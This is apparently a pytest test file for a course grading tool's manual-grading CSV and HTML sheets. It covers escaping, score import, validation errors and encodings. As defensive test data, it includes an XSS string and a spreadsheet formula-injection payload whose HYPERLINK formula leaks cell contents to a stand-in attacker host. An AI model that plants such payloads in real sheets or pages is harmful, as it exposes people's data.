"""The manual-grading sheet (labkit_course.grading.manual): every free-text answer side by side, and
importing the scores a TA writes into its CSV."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from traitlets.config import Config

from labkit_course.grading.course import GradeCell, GradingError, Master
from labkit_course.grading.manual import read_manual_scores as read_grades
from labkit_course.grading.manual import write_manual_sheet
from labkit_course.grading.results import Record


@pytest.fixture
def master(tmp_path: Path) -> Master:
    cells = [GradeCell("q1_answer", "manual", 5.0, "q1", "YOUR ANSWER HERE"),
             GradeCell("q2_test", "test", 2.0, "q2", "assert True"),
             GradeCell("q4_answer", "manual", 15.0, "q4", "YOUR ANSWER HERE")]
    return Master(tmp_path, "toy", "toy", Config(), cells, None, "0" * 64)


@pytest.fixture
def records() -> dict[str, Record]:
    return {
        "bob": Record("bob", "graded", {"q1_answer": None, "q2_test": 2.0, "q4_answer": 7.0},
                      answers={"q1_answer": "<script>alert(1)</script> small weights",
                               "q4_answer": "fewer MACs"}),
        "amy": Record("amy", "crashed", {"q1_answer": None, "q2_test": 0.0, "q4_answer": None},
                      answers={}),
    }


def read_manual_scores(path: Path, master: Master, students: set[str]) -> dict[tuple[str, str], float]:
    """The scores that the sheet ``path`` gives."""
    return {k: g.score for k, g in read_grades([path], master, students).items()}


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def test_the_sheet_lists_every_free_text_answer_and_no_test(master, records, tmp_path):
    html_path, csv_path = write_manual_sheet(records, master, tmp_path)
    page = html_path.read_text()
    assert "q1_answer" in page and "q4_answer" in page and "q2_test" not in page
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;" in page  # escaped
    assert "(no answer)" in page  # amy's crashed submission has no answers
    rows = _rows(csv_path)
    assert sorted((r["grade_id"], r["student"]) for r in rows) == [
        ("q1_answer", "amy"), ("q1_answer", "bob"), ("q4_answer", "amy"), ("q4_answer", "bob")]
    rows = sorted(rows, key=lambda r: (r["grade_id"], r["student"]))
    bob_q4 = rows[3]
    assert bob_q4["score"] == "7" and bob_q4["max_points"] == "15" and bob_q4["answer"] == "fewer MACs"
    assert rows[1]["score"] == ""  # not graded yet


def test_scores_written_into_the_sheet_are_read_back(master, records, tmp_path):
    _, csv_path = write_manual_sheet(records, master, tmp_path)
    rows = sorted(_rows(csv_path), key=lambda r: (r["grade_id"], r["student"]))
    rows[0]["score"], rows[1]["score"] = "5", "2.5"  # amy q1, bob q1; the rest left as they were
    rows[2]["score"] = ""
    with open(csv_path, "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    scores = read_manual_scores(csv_path, master, set(records))
    assert scores == {("amy", "q1_answer"): 5.0, ("bob", "q1_answer"): 2.5, ("bob", "q4_answer"): 7.0}


def test_a_question_column_works_instead_of_grade_ids(master, records, tmp_path):
    path = tmp_path / "scores.csv"
    path.write_text("student,question,score\nbob,Q4,15\n")
    assert read_manual_scores(path, master, set(records)) == {("bob", "q4_answer"): 15.0}


def test_bad_rows_are_all_named_and_nothing_is_imported(master, records, tmp_path):
    path = tmp_path / "scores.csv"
    path.write_text("student,grade_id,score\n"
                    "bob,q1_answer,5\n"       # fine, but not imported: other rows are bad
                    "zed,q1_answer,1\n"       # unknown student
                    "bob,q2_test,2\n"         # an autograded test, not a free-text answer
                    "amy,q4_answer,16\n"      # above the points
                    "amy,q1_answer,lots\n")   # not a number
    with pytest.raises(GradingError) as e:
        read_manual_scores(path, master, set(records))
    message = str(e.value)
    assert "nothing imported" in message
    for line in (f"{path}:3: unknown student 'zed'", f"{path}:4: 'q2_test' is not a free-text question",
                 f"{path}:5: score '16' must be a number in [0, 15]", f"{path}:6: score 'lots'"):
        assert line in message, message
    assert f"{path}:2" not in message


def test_a_csv_without_the_needed_columns_says_which(master, records, tmp_path):
    path = tmp_path / "scores.csv"
    path.write_text("name,points\nbob,3\n")
    with pytest.raises(GradingError, match="needs columns student, grade_id"):
        read_manual_scores(path, master, set(records))


FORMULAS = ['=HYPERLINK("http://attacker.invalid/?leak="&A3&F3, "x")', "+1+1", "-2+3", "@SUM(A1)",
            "\tindented", "\rreturn", "- a bullet point"]


def test_answers_that_start_like_a_formula_are_text_in_the_sheet(master, tmp_path):
    recs = {f"s{i}": Record(f"s{i}", "graded", {"q1_answer": None, "q4_answer": 3.0},
                            answers={"q1_answer": text, "q4_answer": "-7"})
            for i, text in enumerate(FORMULAS)}
    _, csv_path = write_manual_sheet(recs, master, tmp_path)
    rows = _rows(csv_path)
    q1 = {r["student"]: r["answer"] for r in rows if r["grade_id"] == "q1_answer"}
    assert q1 == {f"s{i}": "'" + text for i, text in enumerate(FORMULAS)}
    q4 = [r for r in rows if r["grade_id"] == "q4_answer"]
    assert {r["answer"] for r in q4} == {"-7"}  # a plain number is no formula
    assert {(r["score"], r["max_points"]) for r in q4} == {("3", "15")}  # numbers stay numbers
    for r in rows:  # no cell at all starts like a formula, whatever its column
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values())
    for r in rows:  # the sheet as written imports back
        r["score"] = "1" if r["grade_id"] == "q1_answer" else ""
    with open(csv_path, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    assert len(read_manual_scores(csv_path, master, set(recs))) == len(FORMULAS)


def test_excel_csv_utf8_with_a_bom_and_semicolons_is_read(master, tmp_path):
    path = tmp_path / "scores.csv"
    path.write_text("student,grade_id,score\r\nbob,q1_answer,4\r\n", encoding="utf-8-sig")
    assert read_manual_scores(path, master, {"bob"}) == {("bob", "q1_answer"): 4.0}
    path.write_text("student;question;score\nbob;q4;12.5\n", encoding="utf-8-sig")
    assert read_manual_scores(path, master, {"bob"}) == {("bob", "q4_answer"): 12.5}
    path.write_text("student,grade_id,score\njose\u0301,q1_answer,4\n", encoding="utf-8")  # NFD
    assert read_manual_scores(path, master, {"jos\u00e9"}) == {("jos\u00e9", "q1_answer"): 4.0}


@pytest.mark.parametrize("encoding, says", [
    ("utf-16", "is UTF-16 (Excel's 'Unicode Text'); labkit reads UTF-8: save it from the "
               "spreadsheet as 'CSV UTF-8 (Comma delimited)'"),
    ("latin-1", "is not UTF-8 (byte 0xe9 on line 2; perhaps Latin-1 or Windows-1252); labkit "
                "reads UTF-8: save it from the spreadsheet as 'CSV UTF-8 (Comma delimited)'"),
])
def test_other_encodings_are_refused_saying_which_one_is_needed(master, tmp_path, encoding, says):
    path = tmp_path / "scores.csv"
    path.write_text("student,grade_id,score\njosé,q1_answer,4\n", encoding=encoding)
    with pytest.raises(GradingError) as e:
        read_manual_scores(path, master, {"josé"})
    assert str(e.value).startswith(f"{path} {says}")


def test_duplicates_and_grade_ids_under_the_wrong_question_are_listed_with_the_other_bad_rows(
        master, records, tmp_path):
    path = tmp_path / "scores.csv"
    path.write_text("student,grade_id,question,score\n"
                    "bob,q1_answer,q1,5\n"      # fine alone
                    "amy,q2_test,q1,2\n"        # a test cell's grade id under q1
                    "amy,q4_answer,q1,3\n"      # q4's answer under q1
                    "bob,q1_answer,q1,4\n"      # bob's q1 twice
                    "zed,q1_answer,q1,1\n"      # unknown student
                    "amy,,q9,1\n")              # no such question
    with pytest.raises(GradingError) as e:
        read_manual_scores(path, master, set(records))
    assert str(e.value).splitlines()[1:] == [
        f"  {path}:3: 'q2_test' is not a free-text question (one of ['q1_answer', 'q4_answer'])",
        f"  {path}:4: 'q4_answer' is a q4 answer, but the row says question 'q1'",
        f"  {path}:5: 'bob' 'q1_answer' is graded twice ({path}:2 and {path}:5): keep one row",
        f"  {path}:6: unknown student 'zed'",
        f"  {path}:7: 'q9' is not a question with a free-text answer (one of ['q1', 'q4'])"]
